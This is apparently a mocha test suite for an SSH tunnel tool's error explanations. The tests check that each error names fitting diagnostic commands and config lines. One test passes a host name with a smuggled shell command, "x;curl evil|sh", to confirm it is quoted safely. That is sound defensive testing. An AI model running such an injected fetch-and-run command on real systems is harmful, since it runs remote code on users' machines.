// The explanation of single errors: steps with the commands and the lines that help.
import assert from 'node:assert/strict';
import { describe, it } from 'mocha';
import * as inUse from '../../../src/tunnels/errors/forwards/addressInUse';
import { tooManyAuthenticationFailures, authenticationFailed } from '../../../src/tunnels/errors/ssh/auth';
import type { Attempt, UnusedMethods } from '../../../src/tunnels/errors/ssh/loginFacts';
import {
  authenticationCancelled,
  loginInterrupted,
} from '../../../src/tunnels/errors/ssh/authenticationCancelled';
import { closedAfterOffer, loginRefused } from '../../../src/tunnels/errors/ssh/loginRefused';
import * as connecting from '../../../src/tunnels/errors/ssh/connect';
import { consentNeeded, workspaceUntrusted } from '../../../src/tunnels/errors/consent';
import { explain } from '../../../src/tunnels/errors/errors';
import type { TunnelError } from '../../../src/tunnels/errors/errors';
import type { Circumstances } from '../../../src/tunnels/errors/explanation';
import {
  forwardingDisabled,
  remoteListenNotPermitted,
} from '../../../src/tunnels/errors/forwards/forwardingDisabled';
import * as algorithms from '../../../src/tunnels/errors/ssh/algorithms';
import * as handshake from '../../../src/tunnels/errors/ssh/sshHandshake';
import * as hostKeys from '../../../src/tunnels/errors/ssh/hostKeys/hostKey';
import { hostKeyUnknown } from '../../../src/tunnels/errors/ssh/hostKeys/unknownHostKey';
import { knownHostsCommandFailed } from '../../../src/tunnels/errors/ssh/hostKeys/hostKeySource';
import { agentUnavailable } from '../../../src/tunnels/errors/ssh/keys/agentUnavailable';
import * as keys from '../../../src/tunnels/errors/ssh/keys/keyOrAgent';
import * as listening from '../../../src/tunnels/errors/forwards/localListen';
import { connectionLost, keepAliveTimeout } from '../../../src/tunnels/errors/ssh/connectionLost';
import { proxyFailed } from '../../../src/tunnels/errors/ssh/jumpHost';
import { remoteListenRefused } from '../../../src/tunnels/errors/forwards/remoteListen';
import * as targets from '../../../src/tunnels/errors/forwards/target';
import {
  targetNotPermitted,
  targetNotPermittedHere,
} from '../../../src/tunnels/errors/forwards/targetNotPermitted';
import { explainMismatch } from '../../../src/tunnels/ssh/transport/algorithms';
import type { AlgorithmLists } from '../../../src/tunnels/ssh/transport/algorithms';
import { english } from '../../../src/tunnels/util/l10n';
import { detailOf, messageOf, nextStepOf } from '../../support/errorWords';
import { checkReadable } from '../../support/readableErrors';

const destination = { host: 'staging', user: 'me', port: 2222 };
const on = (platform: string, extra: Partial<Circumstances> = {}): Circumstances => ({
  platform,
  destination,
  ...extra,
});

function textOf(error: TunnelError, circumstances: Circumstances): string {
  const { steps } = explain(error, circumstances, english);
  return steps.flatMap(({ text, code }) => [text, code ?? '']).join('\n');
}

const address = { host: 'db.example.org', port: 2022 };
const db = { host: 'db', port: 5432 };
const bastion = { host: 'bastion' };
const key = { type: 'ssh-ed25519', fingerprint: 'SHA256:abc' };

describe('the explanation of an error', () => {
  const cases: readonly (readonly [error: TunnelError, ...named: readonly string[]])[] = [
    [connecting.hostNotFound('stagign'), 'stagign'],
    [connecting.connectionRefused(address), 'db.example.org', '2022'],
    [connecting.connectTimeout('tcp', address, 10), 'nc -vz -w 5 db.example.org 2022'],
    [connecting.hostUnreachable(address), 'db.example.org'],
    [connectionLost('bastion'), 'bastion'],
    [keepAliveTimeout('bastion', { seconds: 45, neverAnswered: false }), 'bastion', 'serverAliveInterval'],
    [
      keepAliveTimeout('bastion', { seconds: 60, neverAnswered: true }),
      'bastion',
      '"serverAliveInterval": 0',
    ],
    [handshake.serverBusy('bastion'), 'bastion', 'MaxStartups'],
    [handshake.serverStartingOrStopping('bastion', 'Bye.'), 'bastion', '/run/nologin'],
    [handshake.addressPenalised('bastion'), 'bastion', 'PerSourcePenaltyExemptList'],
    [handshake.notAnSshServer(address), 'db.example.org', '2022'],
    [
      handshake.protocolBroken('bastion', 'sent more than it may'),
      'bastion',
      'ssh -v',
      'violates the SSH protocol',
    ],
    [
      proxyFailed('db:22', 'bastion:22', 'notPermitted'),
      'db:22',
      'ssh -v -p 2222 me@staging',
      'AllowTcpForwarding yes',
    ],
    [algorithms.noCommonAlgorithm('old'), 'old', 'HostKeyAlgorithms +ssh-rsa'],
    [
      authenticationFailed('me@staging', [{ key: 'a' }], { accepts: [], accepted: [], problems: [] }),
      'me@staging',
      'ssh-copy-id -p 2222 me@staging',
    ],
    [
      authenticationFailed('me@staging', [{ method: 'password' }], {
        accepts: [],
        accepted: [],
        problems: [],
        wrong: { kind: 'password', count: 3 },
      }),
      'Try again',
      'ssh -p 2222 me@staging',
      'DenyUsers',
    ],
    [
      authenticationFailed('me@staging', [{ key: 'a', wrongPassphrase: true }], {
        accepts: [],
        accepted: [],
        problems: [],
      }),
      'passphrase',
    ],
    [loginRefused('me@staging', 'passwordExpired'), 'me@staging', 'ssh -p 2222 me@staging'],
    [loginRefused('me@staging', 'accountExpired'), 'me@staging', 'chage'],
    [loginRefused('me@staging', 'said', 'Down until 18:00'), 'maintenance', '/etc/nologin /run/nologin'],
    [loginRefused('me@staging', 'answerTooLate'), 'answer sooner'],
    [
      closedAfterOffer('me@staging', { tried: [{ key: 'a' }], accepted: [], mayHaveAskedPerson: false }),
      'journalctl',
    ],
    [loginInterrupted('me@staging'), 'sign in again'],
    [tooManyAuthenticationFailures('me@staging', []), 'me@staging', 'IdentitiesOnly yes'],
    [{ code: 'AuthenticationCancelled', needs: 'password', who: 'me@staging' }, 'me@staging'],
    [keys.keyUnreadable('/k', { reason: 'notAKeyFile' }), 'ls -ld /k'],
    [keys.keyUnreadable('/k', { reason: 'missing' }), 'ls -l ~/.ssh'],
    [keys.keyUnreadable('/k', { reason: 'noPermission' }), 'chmod 600 /k'],
    [keys.keyUnreadable('/k', { reason: 'parseError', error: 'x' }), 'ssh-keygen -y -f /k'],
    [keys.keyUnsupported('/k', { defect: 'notAKey' }), 'ssh-keygen -y -f /k'],
    [keys.keyUnsupported('/k', { defect: 'notAKey', format: 'pkcs12' }), 'openssl pkcs12 -in /k -nocerts'],
    [keys.keyUnsupported('/k', { defect: 'cipher', cipher: 'seed-cbc', format: 'pem' }), '-provider legacy'],
    [keys.keyUnsupported('/k', { defect: 'cost', kdf: 'bcrypt', format: 'openssh' }), 'ssh-keygen -p -a 24'],
    [
      keys.keyUnsupported('/k', { defect: 'puttyFormat', version: '1', encryption: 'none' }),
      'puttygen /k -O private-openssh -o /k.new',
    ],
    [agentUnavailable('/agent.sock'), '/agent.sock'],
    [hostKeyUnknown('[db]:2022', key, 'unconfirmed'), '[db]:2022', 'ssh-keygen -lf'],
    [
      hostKeyUnknown('[db]:2022', key, 'strict', { authority: { file: '/kh', line: 3 } }),
      'ssh-keygen -Lf "$cert"',
    ],
    [
      hostKeyUnknown('[db]:2022', key, 'unconfirmed', { dns: true }),
      'ssh -o VerifyHostKeyDNS=ask -o StrictHostKeyChecking=ask -p 2222 me@staging',
    ],
    [knownHostsCommandFailed('commandRelative', 'cat x'), 'whole path'],
    [
      hostKeys.hostKeyChanged('[db]:2022', key, { ...key, file: '/kh', line: 3 }),
      '/kh, line 3',
      "ssh-keygen -R '[db]:2022' -f /kh",
    ],
    [hostKeys.hostKeyRevoked('db', key, '/kh', 3), '/kh, line 3', 'db'],
    [
      inUse.addressUsedByTunnel({ host: '127.0.0.1', port: 5432 }, { tunnel: 'staging', window: 'shop' }),
      '"staging" of the window "shop"',
      'port 5432',
    ],
    [inUse.addressUsedByTunnel({ path: '/run/db.sock' }, { tunnel: 'staging' }), '"staging"', '/run/db.sock'],
    [inUse.addressInUse({ host: '127.0.0.1', port: 5432 }), "ss -ltnp 'sport = :5432'"],
    [
      inUse.addressInUse({ host: '127.0.0.1', port: 5432 }, { kind: 'anotherUser' }),
      "sudo ss -ltnp 'sport = :5432'",
    ],
    [listening.addressNotAvailable({ host: '10.9.9.9', port: 1 }), '10.9.9.9:1'],
    [listening.portPermissionDenied({ host: '127.0.0.1', port: 80 }), '80'],
    [forwardingDisabled('bastion'), 'bastion', 'AllowTcpForwarding yes'],
    [targetNotPermitted(db, 'bastion'), 'bastion', 'PermitOpen OTHERS db:5432'],
    [targetNotPermitted(db, 'bastion', 'no forwards here'), 'permit a forward to db:5432'],
    [targetNotPermitted({ host: '::1', port: 80 }, 'bastion'), 'PermitOpen OTHERS [::1]:80'],
    [targetNotPermittedHere({ host: '::1', port: 80 }, 'bastion'), 'PermitRemoteOpen [::1]:80'],
    [targets.targetRefused(db, bastion), 'db:5432', 'bastion', "ss -ltnp 'sport = :5432'"],
    [targets.targetNotFound(db, bastion), 'getent hosts db', 'bastion'],
    [targets.targetUnreachable(db, bastion, 'other'), 'nc -vz -w 5 db 5432', 'bastion'],
    [inUse.socketPathTaken('/tmp/s', 'file'), 'rm /tmp/s'],
    [listening.socketFolderMissing('/no/s'), 'ls -ld /no'],
    [targets.targetSocketUnusable({ path: '/run/d.sock' }, bastion), 'ls -l /run/d.sock', 'bastion'],
    [consentNeeded('staging', 'new'), 'Review'],
    [workspaceUntrusted('staging'), 'Trust'],
  ];
  for (const [error, ...named] of cases) {
    it(`names ${named.join(', ')} for ${error.code}`, () => {
      const text = textOf(error, on('linux'));
      for (const name of named) {
        assert.ok(text.includes(name), `${name} in\n${text}`);
      }
    });
  }

  it('names the command of the platform on which it is shown', () => {
    const error = inUse.addressInUse({ host: '127.0.0.1', port: 5432 });
    assert.match(textOf(error, on('darwin')), /lsof -nP -iTCP:5432/);
    assert.match(textOf(error, on('win32')), /netstat -ano \| findstr :5432/);
  });
  it('names what to look at for a refused port of the server, and the lines for a socket', () => {
    const port = textOf(
      remoteListenRefused('unknown', { bind: undefined, port: 9000 }, 'bastion'),
      on('linux'),
    );
    assert.doesNotMatch(port, /PermitListen|GatewayPorts/);
    assert.match(port, /ss -ltnp 'sport = :9000'/);
    const socket = textOf(remoteListenRefused('unknown', { path: '/tmp/a b' }, 'bastion'), on('linux'));
    assert.match(socket, /AllowStreamLocalForwarding yes/);
    assert.match(socket, /ls -l '\/tmp\/a b'/);
  });
  it('names no port of the server when any free one was requested', () => {
    const text = textOf(remoteListenRefused('unknown', { bind: undefined, port: 0 }, 'bastion'), on('linux'));
    assert.match(text, /journalctl -u ssh/);
    assert.doesNotMatch(text, /sport = |1024/);
  });
});

describe('the explanation of a failed remote forward', () => {
  it('has steps on this machine for a failed target, which this machine dials', () => {
    const forward = {
      kind: 'remote',
      listen: { bind: undefined, port: 9000 },
      target: { host: 'localhost', port: 3000 },
      label: 'R',
      ifPortBusy: 'fail',
    } as const;
    for (const error of [
      targets.targetRefused({ host: 'localhost', port: 3000 }, 'thisMachine'),
      targets.targetNotFound({ host: 'web', port: 3000 }, 'thisMachine'),
      targets.targetUnreachable({ host: '10.0.0.1', port: 3000 }, 'thisMachine', 'other'),
      targets.targetSocketUnusable({ path: '/tmp/s' }, 'thisMachine'),
    ]) {
      const { steps } = explain(error, on('darwin', { forward }), english);
      assert.ok(
        steps.every(({ side }) => side === 'here'),
        error.code,
      );
    }
    const refused = textOf(
      targets.targetRefused({ host: 'localhost', port: 3000 }, 'thisMachine'),
      on('darwin', { forward }),
    );
    assert.match(refused, /^lsof -nP -iTCP:3000/m);
  });
  it('names PermitListen for a listener that the server does not permit', () => {
    const listen = { bind: undefined, port: 9000 };
    const error = remoteListenNotPermitted(listen, 'bastion');
    const forward = { kind: 'remote', listen, target: undefined, label: 'R', ifPortBusy: 'fail' } as const;
    assert.match(textOf(error, on('linux', { forward })), /PermitListen OTHERS 9000/);
  });
});

describe('a command in an explanation', () => {
  it('quotes the text of others as one word', () => {
    const nasty = connecting.hostNotFound("x;curl evil|sh'");
    assert.match(textOf(nasty, on('linux')), /^getent hosts 'x;curl evil\|sh'\\'''$/m);
    assert.match(textOf(nasty, on('win32')), /^nslookup "x;curl evil\|sh'"$/m);
  });
});

describe('the words of an error', () => {
  it('suggest another port for a port in use, and another path for a socket in use', () => {
    const holder = { tunnel: 'staging' };
    assert.match(nextStepOf(inUse.addressUsedByTunnel(address, holder)), /another local port/);
    assert.match(nextStepOf(inUse.addressUsedByTunnel({ path: '/tmp/s' }, holder)), /another path/);
  });

  it('suggest a step after a failed login that fits what was tried and what the server accepts', () => {
    const next = (tried: readonly Attempt[], accepts: readonly string[]): string =>
      nextStepOf(authenticationFailed('me@db:22', tried, { accepts, accepted: [], problems: [] }));
    const locked = { key: 'a', wrongPassphrase: true } as const;
    assert.match(next([{ method: 'password' }], []), /enter the correct password/);
    assert.match(next([locked], []), /correct passphrase/);
    assert.match(next([locked, { key: 'b' }], []), /ssh-copy-id/);
    assert.match(next([], ['publickey']), /ssh-keygen/);
    assert.match(next([], ['password']), /PasswordAuthentication/);
    assert.match(next([], ['gssapi-with-mic']), /Ask the administrator/);
  });

  it('say how to log in with what is not used here', () => {
    const failed = (accepts: readonly string[], unused: UnusedMethods): TunnelError =>
      authenticationFailed('me@db:22', [{ key: 'a' }], { accepts, accepted: [], problems: [], unused });
    const library = { pkcs11Provider: '/usr/lib/card.so' };
    assert.match(
      nextStepOf(failed(['publickey'], library)),
      /"ssh-add -s \/usr\/lib\/card\.so".*PKCS11Provider/,
    );
    assert.doesNotMatch(nextStepOf(failed(['password'], library)), /PKCS11Provider/);
    assert.match(detailOf(failed(['hostbased'], { hostbased: true })), /HostbasedAuthentication is not/);
  });

  it('say what the server accepts, what it has accepted, and why keys can not be used', () => {
    const error = authenticationFailed('me@db:22', [{ key: 'a' }], {
      accepts: ['password', 'gssapi-with-mic'],
      accepted: [{ key: 'b', inAgent: true }],
      problems: [keys.keyUnreadable('/k', { reason: 'othersCanRead', mode: '0644' })],
    });
    assert.equal(
      detailOf(error),
      'The server accepts: password, gssapi-with-mic. Already accepted: b (agent). ' +
        'Kerberos (GSSAPI) is not supported: sign in with a key or a password. ' +
        `The key /k can't be used: other users can read it (mode 0644), so it is ignored, as in ssh. ` +
        'Run "chmod 600 /k" in a terminal.',
    );
  });
});

describe('the error that a passphrase is needed', () => {
  it("names the command for macOS's keychain, on macOS", () => {
    const error = authenticationCancelled({ kind: 'passphrase', who: 'me@db:22', keyFile: '/k' });
    assert.match(textOf(error, on('darwin')), /^\/usr\/bin\/ssh-add --apple-load-keychain$/m);
    assert.doesNotMatch(textOf(error, on('linux')), /keychain/);
  });
});

describe('the error about no common algorithm', () => {
  const of = (what: string, remote: string, lists: AlgorithmLists = {}): TunnelError =>
    algorithms.noCommonAlgorithm('old', undefined, explainMismatch({ what, local: '', remote }, lists));

  it('suggests a line of ssh_config when we know an algorithm of the server but do not offer it', () => {
    const error = of('Host key format', 'ssh-dss,ssh-rsa');
    assert.match(messageOf(error), /no host key type in common: the server offers only ssh-dss, ssh-rsa\./);
    // And not ssh-dss, which OpenSSH no longer supports.
    assert.match(nextStepOf(error), /^Add "HostKeyAlgorithms \+ssh-rsa" to the Host block/);
    assert.match(textOf(error, on('linux')), /^Host staging\n {4}HostKeyAlgorithms \+ssh-rsa$/m);
    checkReadable(error);
  });
  it('suggests a line of sshd_config when we know no algorithm of the server', () => {
    const error = of('KEX method', 'frodo976-sha256,a,b,c,d,kex-strict-s-v00@openssh.com');
    assert.match(messageOf(error), /only frodo976-sha256, a, b and 2 more\./);
    assert.match(textOf(error, on('linux')), /^KexAlgorithms \+curve25519-sha256$/m);
    checkReadable(error);
  });
  it('suggests a plain host key, of which each server has one, and no certificate', () => {
    const error = of('Host key format', 'ssh-dss');
    assert.match(nextStepOf(error), /such as ssh-ed25519, to HostKeyAlgorithms in the server's sshd_config/);
    checkReadable(error);
  });
  for (const direction of ['C->S', 'S->C']) {
    it(`blames the list in ssh_config when that is too short, ${direction}`, () => {
      const error = of(`${direction} cipher`, 'aes256-cbc,aes128-ctr', { ciphers: ['aes256-ctr'] });
      assert.match(messageOf(error), /^Ciphers in your SSH config and old have no algorithm in common/);
      assert.match(nextStepOf(error), /^Add aes128-ctr to Ciphers in your SSH config, or remove that line\./);
      assert.match(textOf(error, on('linux')), /ssh -G /);
      assert.doesNotMatch(textOf(error, on('linux')), /update the SSH server/);
      checkReadable(error);
    });
  }
  it('blames the server when no list in ssh_config would help', () => {
    const error = of('KEX method', 'frodo976-sha256', { kexAlgorithms: ['curve25519-sha256'] });
    assert.match(messageOf(error), /^old and this machine have no key exchange in common/);
    assert.match(
      nextStepOf(error),
      /such as curve25519-sha256, to KexAlgorithms in the server's sshd_config/,
    );
    checkReadable(error);
  });
  it('blames MACs when the ciphers of the server need one, and ssh_config names only unsupported ones', () => {
    const error = of('C->S cipher', 'aes128-ctr', { macs: ['umac-64@openssh.com'] });
    assert.match(messageOf(error), /^MACs for old contains no supported algorithm: umac-64@openssh\.com\./);
    assert.match(nextStepOf(error), /^Add a supported one, such as hmac-sha2-256-etm@openssh\.com, to MACs/);
    checkReadable(error);
  });
  it('leaves out malformed names of algorithms', () => {
    const error = of('KEX method', `\u202e,a b,${'x'.repeat(65)},zlib,\x1b[2J,\u00e9,good`);
    assert.match(messageOf(error), /the server offers only zlib, good\./);
    checkReadable(error);
  });
  it('suggests no single line for compression', () => {
    const error = of('C->S compression', 'zlib');
    assert.ok(error.code === 'NoCommonAlgorithm' && error.reason === 'unknown');
  });
});
